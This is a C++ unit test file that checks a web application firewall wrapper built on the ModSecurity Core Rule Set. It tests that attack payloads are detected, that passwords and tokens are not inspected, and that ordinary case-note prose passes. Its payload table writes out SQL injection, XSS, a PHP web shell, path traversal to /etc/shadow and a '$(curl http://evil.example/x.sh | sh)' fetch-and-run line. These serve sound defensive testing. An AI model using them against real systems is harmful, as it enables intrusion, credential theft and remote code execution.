#include "defense/crs.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <fstream>

#include "fakes/temp_dir.h"

namespace strongroom::defense {
namespace {

class CrsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto loaded = Crs::Load({});
    ASSERT_TRUE(loaded) << loaded.error().message;
    crs_ = loaded->release();
  }
  static void TearDownTestSuite() {
    delete crs_;
    crs_ = nullptr;
  }

  static http::Request Get(std::string target) {
    http::Request r;
    r.remote_address = "192.0.2.7";
    r.message.method(http::beast_http::verb::get);
    r.message.target(target);
    r.message.set("Host", "records.example.org");
    r.message.set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)");
    r.message.set("Accept", "application/json");
    return r;
  }
  static http::Request PostJson(std::string body) {
    auto r = Get("/api/v1/records");
    r.message.method(http::beast_http::verb::post);
    r.message.set("Content-Type", "application/json; charset=utf-8");
    r.message.set("Content-Length", std::to_string(body.size()));
    r.message.body() = std::move(body);
    return r;
  }
  static std::string Json(std::string_view text) {
    std::string out = "\"";
    for (char c : text) {
      if (c == '"' || c == '\\') out += '\\';
      out += c;
    }
    return out + "\"";
  }

  static bool HasRuleIn(const Finding& f, int family) {
    for (const auto& m : f.matches) {
      if (m.rule_id / 1000 == family) return true;
    }
    return false;
  }

  static Crs* crs_;
};
Crs* CrsTest::crs_ = nullptr;

// The payload classes the CRS rule files name, each where a client would put it.
struct Attack {
  const char* what;
  int family;  // the CRS rule file that should catch it: 942 is REQUEST-942 (SQL injection)
  const char* payload;
};

constexpr Attack kAttacks[] = {
    {"SQL injection, tautology", 942, "1' OR '1'='1' --"},
    {"SQL injection, union", 942, "0 UNION ALL SELECT username, password FROM accounts"},
    {"SQL injection, stacked", 942, "1; DROP TABLE records; --"},
    {"SQL injection, time-based", 942, "1' AND SLEEP(5)#"},
    {"XSS, script tag", 941, "<script>alert(document.cookie)</script>"},
    {"XSS, event handler", 941, "<img src=x onerror=alert(1)>"},
    {"XSS, javascript URI", 941, "<a href=\"javascript:alert(1)\">x</a>"},
    {"remote command execution", 932, "; cat /etc/passwd"},
    {"remote command execution, substitution", 932, "$(curl http://evil.example/x.sh | sh)"},
    {"path traversal", 930, "../../../../etc/passwd"},
    {"OS file access", 930, "/etc/shadow"},
    {"remote file inclusion", 931, "http://203.0.113.9/shell.txt?"},
    {"PHP injection", 933, "<?php system($_GET['c']); ?>"},
    {"Java code injection", 944, "java.lang.Runtime.getRuntime().exec(\"id\")"},
    {"Node.js deserialisation", 934, "_$$ND_FUNC$$_function(){require('child_process')}()"},
};

TEST_F(CrsTest, EachAttackClassIsFoundInAQueryParameter) {
  for (const auto& a : kAttacks) {
    std::string encoded;
    for (unsigned char c : std::string_view(a.payload)) {
      encoded += std::isalnum(c) ? std::string(1, static_cast<char>(c)) : fmt::format("%{:02X}", c);
    }
    const auto f = crs_->Evaluate(Get("/api/v1/records?q=" + encoded));
    EXPECT_GE(f.score, 5) << a.what;
    EXPECT_TRUE(HasRuleIn(f, a.family)) << a.what;
    EXPECT_FALSE(f.OnlyInBody()) << a.what;
  }
}

TEST_F(CrsTest, EachAttackClassIsFoundInAJsonBodyAndNamedThere) {
  for (const auto& a : kAttacks) {
    const auto f = crs_->Evaluate(PostJson(R"({"title":)" + Json(a.payload) + "}"));
    EXPECT_GE(f.score, 5) << a.what;
    EXPECT_TRUE(HasRuleIn(f, a.family)) << a.what;
    bool named = false;
    for (const auto& m : f.matches) {
      for (const auto& v : m.variables) named |= v == "ARGS:json.title";
    }
    EXPECT_TRUE(named) << a.what;
    EXPECT_TRUE(f.OnlyInBody()) << a.what;
  }
}

TEST_F(CrsTest, AnAttackDeepInALongValueIsFound) {
  std::string notes;
  while (notes.size() < 256 * 1024) notes += "Visited the client at home; all well. ";
  const auto f = crs_->Evaluate(
      PostJson(R"({"body":)" + Json(notes + "1' UNION SELECT password FROM users--") + "}"));
  EXPECT_TRUE(HasRuleIn(f, 942));
}

TEST_F(CrsTest, AMalformedJsonBodyIsStillInspected) {
  const auto f = crs_->Evaluate(PostJson(R"({"title": "<script>alert(1)</script>")"));
  EXPECT_TRUE(HasRuleIn(f, 941));
  EXPECT_TRUE(f.OnlyInBody());
}

TEST_F(CrsTest, ScannersAndProtocolAttacksAreFound) {
  auto scanner = Get("/");
  scanner.message.set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
  EXPECT_TRUE(HasRuleIn(crs_->Evaluate(scanner), 913));

  auto split = Get("/api/v1/records?q=a%0d%0aSet-Cookie:%20x=1");
  EXPECT_TRUE(HasRuleIn(crs_->Evaluate(split), 921));

  auto method = Get("/");
  method.message.method_string("TRACK");
  EXPECT_TRUE(HasRuleIn(crs_->Evaluate(method), 911));
}

TEST_F(CrsTest, SecretsAreNeverInspected) {
  // A password may be anything, and is never written into SQL or HTML: it is not inspected, so
  // no finding can hold it. The same text in another field is found.
  for (const char* field : {"password", "code", "token", "enrolment_token"}) {
    const auto f = crs_->Evaluate(PostJson(
        fmt::format(R"({{"username":"ann.editor","{}":"<script>alert(1)</script>"}})", field)));
    EXPECT_TRUE(f.clean()) << field;
  }
  EXPECT_FALSE(crs_->Evaluate(PostJson(R"({"username":"<script>alert(1)</script>"})")).clean());
  auto cookie = Get("/api/v1/records");
  cookie.message.set("Cookie", "__Host-strongroom-session=' OR '1'='1");
  cookie.message.set("Authorization", "Bearer ' OR '1'='1");
  EXPECT_TRUE(crs_->Evaluate(cookie).clean());
}

TEST_F(CrsTest, OrdinaryCaseNotesAreClean) {
  // What people write in case notes: names with apostrophes, quotes, comparisons, dashes, code-
  // like fragments and ordinary words that are also SQL keywords.
  constexpr const char* kNotes[] = {
      "Spoke to Mr O'Brien; he said \"I'll be in on Tuesday\".",
      "Risk score a < b, so no escalation (see note 3 & 4).",
      "DROP-IN session booked for 12/03 at 10:30 - select a room nearer the door.",
      "Client's union rep attended; we will update the plan from the meeting's minutes.",
      "Order #4521: 2 x forms, 1 x ID check -- both returned.",
      "She asked whether to delete old emails or keep them; advised to keep.",
      "Address: Flat 2/1, 14 Queen's Road, Glasgow G12 8QQ.",
      "Follow-up: call 0141 496 0000 or email j.smith@example.org before 5pm.",
      "Notes from the meeting: (1) housing; (2) benefits; (3) where to go next?",
      "He said: 'it's 50/50 whether the landlord will agree' - we'll see.",
      "Used the <b>old</b> form by mistake; re-sent the new one.",
      "Score went from 3 to 5 => review in 2 weeks; if > 7, refer.",
      "Rang at 09:15, no answer. Left voicemail. Tried again at 14:00 = answered.",
      "C:\\Users\\staff\\Documents was mentioned as where the letter was saved.",
  };
  for (const char* note : kNotes) {
    const auto f =
        crs_->Evaluate(PostJson(R"({"title":"Visit","body":{"summary":)" + Json(note) + "}}"));
    std::string rules;
    for (const auto& m : f.matches) rules += std::to_string(m.rule_id) + " ";
    EXPECT_TRUE(f.clean()) << note << " -> " << rules;
  }
}

TEST_F(CrsTest, SomeOrdinaryProseLooksLikeACommandToTheCrs) {
  // A false alarm CRS 3.3.4 raises at paranoia level 1: in a signed-in user's record content it
  // is reported and never refused (detector_test, and the case-note corpus in defense_test).
  const auto f = crs_->Evaluate(PostJson(
      R"({"body":{"summary":"The script for the call was followed; exec summary attached."}})"));
  EXPECT_TRUE(HasRuleIn(f, 932));
  EXPECT_TRUE(f.OnlyInBody());
}

TEST_F(CrsTest, FindingsNameRulesAndVariablesButNeverTheValues) {
  const std::string payload = "1' UNION SELECT secret_marker_93c1 FROM users--";
  const auto f = crs_->Evaluate(PostJson(R"({"title":)" + Json(payload) + "}"));
  ASSERT_FALSE(f.matches.empty());
  for (const auto& m : f.matches) {
    EXPECT_GT(m.rule_id, 0);
    EXPECT_FALSE(m.message.empty());
    EXPECT_EQ(m.message.find("secret_marker"), std::string::npos) << m.rule_id;
    for (const auto& v : m.variables) EXPECT_EQ(v.find("secret_marker"), std::string::npos);
  }
}

TEST(CrsLoadTest, MissingRulesFailNamingTheFile) {
  strongroom::testing::TempDir empty;
  auto loaded = Crs::Load({empty.path(), 1, 5});
  ASSERT_FALSE(loaded);
  EXPECT_EQ(loaded.error().code, ErrorCode::kFailedPrecondition);
  EXPECT_NE(loaded.error().message.find("REQUEST-901-INITIALIZATION.conf"), std::string::npos)
      << loaded.error().message;
}

TEST(CrsLoadTest, ARuleFileThatDoesNotParseFailsTheLoad) {
  strongroom::testing::TempDir dir;
  for (const auto& entry :
       std::filesystem::directory_iterator("/usr/share/modsecurity-crs/rules")) {
    std::filesystem::copy(entry.path(), dir.path() / entry.path().filename());
  }
  std::ofstream(dir.path() / "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", std::ios::app)
      << "\nSecNoSuchDirective On\n";
  auto loaded = Crs::Load({dir.path(), 1, 5});
  ASSERT_FALSE(loaded);
  EXPECT_NE(loaded.error().message.find("did not load"), std::string::npos)
      << loaded.error().message;
}

TEST(CrsLoadTest, ParanoiaLevelAndThresholdAreChecked) {
  EXPECT_FALSE(Crs::Load({"/usr/share/modsecurity-crs/rules", 0, 5}));
  EXPECT_FALSE(Crs::Load({"/usr/share/modsecurity-crs/rules", 5, 5}));
  EXPECT_FALSE(Crs::Load({"/usr/share/modsecurity-crs/rules", 1, 0}));
  const auto conf = CrsConfiguration({"/usr/share/modsecurity-crs/rules", 3, 7});
  EXPECT_NE(conf.find("setvar:tx.paranoia_level=3"), std::string::npos);
  EXPECT_NE(conf.find("setvar:tx.inbound_anomaly_score_threshold=7"), std::string::npos);
}

}  // namespace
}  // namespace strongroom::defense
